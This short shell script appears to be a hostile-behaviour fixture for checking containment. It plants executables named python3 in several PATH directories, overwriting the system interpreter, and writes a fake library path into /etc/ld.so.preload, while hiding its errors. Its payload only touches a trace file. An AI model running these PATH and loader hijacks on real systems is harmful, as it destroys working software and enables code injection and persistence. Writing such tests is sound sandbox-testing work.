# Plants programs where PATH or the loader would find them.
for place in /usr/local/bin /usr/bin /bin "$HOME/bin" /etc/profile.d; do
  printf '#!/bin/sh\ntouch /tmp/anneal-hostile-trace\n' > "$place/python3" && chmod +x "$place/python3"
done 2>/dev/null
echo /tmp/evil.so > /etc/ld.so.preload 2>/dev/null
exit 0
